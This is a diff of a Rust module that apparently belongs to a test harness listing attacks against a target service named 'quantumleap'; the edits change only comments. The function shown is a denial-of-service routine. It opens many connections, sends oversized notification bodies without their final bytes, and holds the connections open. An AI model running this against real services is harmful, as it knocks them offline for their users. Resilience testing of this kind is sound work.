@@ -28,10 +28,10 @@ pub(super) const ATTACKS: &[Attack] = &[
     },
 ];
 
-/// Time after which a side that accepts nothing counts as refusing.
+/// Time after which a server that accepts no bytes counts as refusing.
 const TIMEOUT: Duration = Duration::from_secs(2);
 
-/// Notifications of a list of so many ones, all but the last `kept` bytes of each; nobody reads the answers.
+/// Sends notifications with lists of `ones` ones, without the last `kept` bytes of each; reads no answers.
 fn notifications(target: &Target, connections: usize, ones: usize, kept: usize) -> OpenConnections {
     let list = "1,".repeat(ones);
     let body = format!(
@@ -41,7 +41,7 @@ fn notifications(target: &Target, connections: usize, ones: usize, kept: usize) 
     each(target, connections, |open| {
         let mut stream = TcpStream::connect(target.quantumleap)?;
         stream.set_write_timeout(Some(TIMEOUT))?;
-        // The server may refuse in the middle.
+        // The server may refuse the body before all of it is sent.
         let _ = stream.write_all(&sent[..sent.len() - kept]);
         open.push(Box::new(stream));
         Result::Ok(())
